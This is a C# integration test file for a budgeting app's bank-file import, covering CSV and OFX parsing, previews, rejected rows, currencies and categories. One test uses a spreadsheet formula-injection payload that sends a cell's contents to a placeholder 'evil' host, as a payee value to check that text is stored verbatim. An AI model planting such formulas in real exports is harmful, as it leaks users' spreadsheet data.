using System.Net;
using static MyBudget.IntegrationTests.Features.Imports.BankFixtures;

namespace MyBudget.IntegrationTests.Features.Imports;

public sealed class ImportFileTests(AppFixture app)
{
    [Fact]
    public async Task rows_become_transactions_and_the_report_can_be_read_again()
    {
        var ledger = await app.CreateLedgerAsync();
        var bank = await ledger.OpenAccountAsync(openingBalance: 10000);

        var import = (await ledger.ImportAsync(Csv, bank)).ShouldCount(3, 0, 0);

        (await ledger.BalanceAsync(bank)).ShouldBe(10000 - 450 + 250000 - 6120);
        var row = import.Rows()[0];
        (row.GetProperty("row").GetInt32(), row.GetProperty("line").GetInt32(), row.Status()).ShouldBe((1, 2, "imported"));
        (row.GetProperty("date").GetString(), row.GetProperty("amount").GetInt64(), row.GetProperty("payee").GetString())
            .ShouldBe(("2026-03-02", -450, "BAKERY 12 MAIN ST"));

        var transaction = (await ledger.GetAsync($"transactions/{row.Transaction()}")).Body;
        transaction.GetProperty("importId").GetGuid().ShouldBe(import.Id);
        transaction.GetProperty("bankId").GetString().ShouldBe("R1");
        transaction.GetProperty("status").GetString().ShouldBe("cleared");
        transaction.GetProperty("createdBy").GetGuid().ShouldBe(ledger.UserId);

        var read = (await ledger.GetAsync(import.Headers.Location!.ToString())).ShouldBe(HttpStatusCode.OK);
        read.Body.ShouldBeJson(import.Body);
        (await ledger.GetAsync($"imports/{import.Id}", ("If-None-Match", read.ETag!))).ShouldBe(HttpStatusCode.NotModified);
        (await ledger.GetAsync("imports")).Items.Single().GetProperty("id").GetGuid().ShouldBe(import.Id);
    }

    [Fact]
    public async Task a_preview_writes_nothing_and_tells_what_an_import_then_does()
    {
        var ledger = await app.CreateLedgerAsync();
        var bank = await ledger.OpenAccountAsync();
        var revision = await ledger.RevisionAsync();

        var preview = (await ledger.PreviewAsync(Csv, bank)).ShouldCount(3, 0, 0, HttpStatusCode.OK);

        preview.Body.GetProperty("id").ValueKind.ShouldBe(System.Text.Json.JsonValueKind.Null);
        preview.Body.GetProperty("layout").GetProperty("dateFormat").GetString().ShouldBe("yyyy-MM-dd");
        (await ledger.RevisionAsync()).ShouldBe(revision);
        (await ledger.GetAsync("transactions")).Items.ShouldBeEmpty();
        (await ledger.GetAsync("imports")).Items.ShouldBeEmpty();

        var import = (await ledger.ImportAsync(Csv, bank)).ShouldCount(3, 0, 0);
        import.Rows().Select(row => row.GetProperty("amount").GetInt64()).ShouldBe(preview.Rows().Select(row => row.GetProperty("amount").GetInt64()));
        (await ledger.RevisionAsync()).ShouldBe(revision + 1);
    }

    [Fact]
    public async Task ofx_of_a_checking_account_and_qfx_of_a_credit_card()
    {
        var ledger = await app.CreateLedgerAsync();
        var (bank, card) = (await ledger.OpenAccountAsync("Bank"), await ledger.OpenAccountAsync("Card", type: "creditCard"));

        (await ledger.ImportAsync(Checking(Entry("1", "20260302120000[+1:CET]", "-12.34", "SHOP", "<MEMO>till 3\n<CHECKNUM>77\n")), bank)).ShouldCount(1, 0, 0);
        (await ledger.ImportAsync(CreditCard(Entry("1", "20260302", "-99.00", "HOTEL")), card)).ShouldCount(1, 0, 0);

        (await ledger.BalanceAsync(bank)).ShouldBe(-1234);
        (await ledger.BalanceAsync(card)).ShouldBe(-9900);
        (await ledger.GetAsync($"transactions?accountId={bank}")).Items.Single().GetProperty("note").GetString().ShouldBe("till 3\n# 77");
    }

    [Fact]
    public async Task a_file_of_several_accounts_asks_where_each_goes_and_remembers_it()
    {
        var ledger = await app.CreateLedgerAsync();
        var (bank, savings) = (await ledger.OpenAccountAsync("Bank"), await ledger.OpenAccountAsync("Savings"));

        var asked = (await ledger.ImportAsync(TwoAccounts(), bank)).ShouldBeProblem(HttpStatusCode.UnprocessableEntity, "imports.accounts-needed");
        var found = asked.Body.GetProperty("accounts").EnumerateArray().ToArray();
        found.Select(account => account.GetProperty("bankAccount").GetString()).ShouldBe(["DE01-1", "DE01-2"]);
        found[1].GetProperty("kind").GetString().ShouldBe("savings");

        object[] accounts = [new { bankAccount = "DE01-1", accountId = bank }, new { bankAccount = "DE01-2", accountId = savings }];
        var import = (await ledger.ImportAsync(TwoAccounts(), fields: ("accounts", accounts))).ShouldCount(2, 0, 0);
        import.Rows().Select(row => row.GetProperty("accountId").GetGuid()).ShouldBe([bank, savings]);
        ((await ledger.BalanceAsync(bank)), await ledger.BalanceAsync(savings)).ShouldBe((-1000, 700));

        (await ledger.ImportAsync(TwoAccounts())).ShouldCount(0, 2, 0);
        (await ledger.ImportAsync(Checking(Entry("A9", "20260310", "-1.00", "KIOSK")))).ShouldCount(1, 0, 0);
    }

    [Fact]
    public async Task a_bank_account_can_be_left_out()
    {
        var ledger = await app.CreateLedgerAsync();
        var bank = await ledger.OpenAccountAsync();
        object[] accounts = [new { bankAccount = "DE01-1", accountId = bank }, new { bankAccount = "DE01-2", accountId = (Guid?)null }];

        var import = (await ledger.ImportAsync(TwoAccounts(), fields: ("accounts", accounts))).ShouldCount(1, 0, 1);

        import.Rows()[1].Reason().ShouldBe("account-left-out");
    }

    [Fact]
    public async Task csv_with_german_numbers_and_an_explicit_mapping()
    {
        var ledger = await app.CreateLedgerAsync();
        var bank = await ledger.OpenAccountAsync();
        const string german = "Buchungstag;Verwendungszweck;Betrag\n02.03.2026;Miete;-1.234,56\n31.03.2026;Gehalt;3.500,00\n";
        (await ledger.ImportAsync(german, bank)).ShouldCount(2, 0, 0);
        (await ledger.BalanceAsync(bank)).ShouldBe(350000 - 123456);

        const string doubtful = "When,Who,Spent\n01/02/2026,Shop,12.00\n03/04/2026,Cafe,3.00\n";
        (await ledger.ImportAsync(doubtful, bank)).ShouldBeProblem(HttpStatusCode.UnprocessableEntity, "imports.ambiguous-dates")
            .Body.GetProperty("candidates").GetArrayLength().ShouldBe(2);
        var mapping = new { dateFormat = "dd/MM/yyyy", date = "When", payee = "Who", amount = "Spent", negate = true };
        var import = (await ledger.ImportAsync(doubtful, bank, ("mapping", mapping))).ShouldCount(2, 0, 0);
        import.Rows()[0].GetProperty("date").GetString().ShouldBe("2026-02-01");
        import.Rows()[0].GetProperty("amount").GetInt64().ShouldBe(-1200);
    }

    [Fact]
    public async Task rows_that_cannot_be_entries_are_rejected_with_line_and_reason()
    {
        var ledger = await app.CreateLedgerAsync();
        var bank = await ledger.OpenAccountAsync();
        const string file =
            """
            Date,Description,Amount,Currency
            2026-03-02,GOOD,-1.00,EUR
            2026-13-02,NO DAY,-1.00,EUR
            2026-03-02,NO AMOUNT,abc,EUR
            2026-03-02,TOO FINE,-1.005,EUR
            2026-03-02,FOREIGN,-1.00,USD
            2026-03-02,NOTHING,0.00,EUR
            2026-03-02,HUGE,99999999999999.00,EUR
            """;

        var import = (await ledger.ImportAsync(file, bank)).ShouldCount(1, 0, 6);

        import.Rows().Skip(1).Select(row => (row.GetProperty("line").GetInt32(), row.Reason())).ShouldBe(
            [(3, "bad-date"), (4, "bad-amount"), (5, "bad-amount"), (6, "currency-differs"), (7, "zero-amount"), (8, "bad-amount")]);
        (await ledger.BalanceAsync(bank)).ShouldBe(-100);
    }

    [Theory]
    [InlineData("JPY", "-1200", -1200)]
    [InlineData("BHD", "-1.234", -1234)]
    public async Task amounts_are_exact_in_the_minor_unit_of_the_account(string currency, string amount, long minor)
    {
        var ledger = await app.CreateLedgerAsync(currency);
        var bank = await ledger.OpenAccountAsync(currency: currency);
        var mapping = new { decimalSeparator = "." };

        (await ledger.ImportAsync(Rows($"2026-03-02,SHOP,{amount}"), bank, ("mapping", mapping))).ShouldCount(1, 0, 0);

        (await ledger.BalanceAsync(bank)).ShouldBe(minor);
    }

    [Fact]
    public async Task texts_are_kept_as_they_are_and_none_is_lost()
    {
        var ledger = await app.CreateLedgerAsync();
        var bank = await ledger.OpenAccountAsync();
        var payee = "LONG " + new string('x', 250);
        const string formula = "=HYPERLINK(\"http://evil\"&A1;\"x\")";

        (await ledger.ImportAsync(
            $"Date;Payee;Amount;Memo\n2026-03-02;{payee};-1.00;memo\n2026-03-01;\"{formula.Replace("\"", "\"\"", StringComparison.Ordinal)}\";-2.00;+1\n", bank)).ShouldCount(2, 0, 0);

        var items = (await ledger.GetAsync("transactions")).Items;
        items[0].GetProperty("payee").GetString()!.Length.ShouldBe(200);
        items[0].GetProperty("note").GetString().ShouldBe($"{payee}\nmemo");
        items[1].GetProperty("payee").GetString().ShouldBe(formula);
        items[1].GetProperty("note").GetString().ShouldBe("+1");
    }

    [Fact]
    public async Task categories_come_from_the_file_or_from_what_the_payee_was_given_last()
    {
        var ledger = await app.CreateLedgerAsync();
        var bank = await ledger.OpenAccountAsync();
        var (food, fun) = (await ledger.CreateCategoryAsync("Food"), await ledger.CreateCategoryAsync("Fun"));
        var first = await ledger.ImportAsync("Date,Description,Amount,Category\n2026-03-02,GROCER,-5.00,food\n2026-03-02,CINEMA,-9.00,Unheard\n", bank);
        first.Rows()[0].GetProperty("categoryId").GetGuid().ShouldBe(food);
        first.Rows()[1].TryGetProperty("categoryId", out var none).ShouldBe(none.ValueKind != System.Text.Json.JsonValueKind.Undefined);
        (await ledger.PatchAsync($"transactions/{first.Rows()[1].Transaction()}", new { categoryId = fun })).ShouldBe(HttpStatusCode.OK);

        var second = (await ledger.ImportAsync(Rows("2026-04-02,CINEMA,-9.00", "2026-04-02,GROCER,-7.00", "2026-04-02,OTHER,-1.00"), bank)).ShouldCount(3, 0, 0);

        var items = (await ledger.GetAsync("transactions?from=2026-04-01")).Items.ToDictionary(item => item.GetProperty("payee").GetString()!);
        items["CINEMA"].GetProperty("categoryId").GetGuid().ShouldBe(fun);
        items["GROCER"].GetProperty("categoryId").GetGuid().ShouldBe(food);
        items["OTHER"].GetProperty("categoryId").ValueKind.ShouldBe(System.Text.Json.JsonValueKind.Null);
        second.Rows()[0].GetProperty("categoryId").GetGuid().ShouldBe(fun);
    }

    [Theory]
    [InlineData("2026-03-02,A,-1.00", "2026-03-02,B,-2.00", "2026-03-03,C,-3.00", "C B A")]
    [InlineData("2026-03-03,C,-3.00", "2026-03-02,B,-2.00", "2026-03-02,A,-1.00", "C B A")]
    public async Task entries_of_a_day_are_listed_as_in_the_file(string first, string second, string third, string listed)
    {
        var ledger = await app.CreateLedgerAsync();
        var bank = await ledger.OpenAccountAsync();

        (await ledger.ImportAsync(Rows(first, second, third), bank)).ShouldCount(3, 0, 0);

        string.Join(' ', (await ledger.GetAsync("transactions")).Items.Select(item => item.GetProperty("payee").GetString())).ShouldBe(listed);
    }

    [Fact]
    public async Task closed_and_foreign_accounts_are_refused()
    {
        var ledger = await app.CreateLedgerAsync();
        var bank = await ledger.OpenAccountAsync();
        var foreign = await (await app.CreateLedgerAsync()).OpenAccountAsync();
        await ledger.PostAsync($"accounts/{bank}/closure");

        (await ledger.ImportAsync(Csv, bank)).ShouldBeProblem(HttpStatusCode.UnprocessableEntity, "accounts.closed");
        (await ledger.ImportAsync(Csv, foreign)).ShouldBeProblem(HttpStatusCode.UnprocessableEntity, "transactions.unknown-account");
        (await ledger.ImportAsync(Csv)).ShouldBeProblem(HttpStatusCode.UnprocessableEntity, "imports.accounts-needed");
    }

    [Fact]
    public async Task many_rows_are_one_revision_and_their_sum_is_the_balance()
    {
        var ledger = await app.CreateLedgerAsync();
        var bank = await ledger.OpenAccountAsync();
        var revision = await ledger.RevisionAsync();
        var file = Many(2000);

        var import = (await ledger.ImportAsync(file, bank)).ShouldBe(HttpStatusCode.Created);

        (await ledger.RevisionAsync()).ShouldBe(revision + 1);
        var sum = import.Rows().Where(row => row.Status() == "imported").Sum(row => row.GetProperty("amount").GetInt64());
        (await ledger.BalanceAsync(bank)).ShouldBe(sum);
        (await ledger.ImportAsync(file, bank)).Body.GetProperty("imported").GetInt32().ShouldBe(0);
    }
}
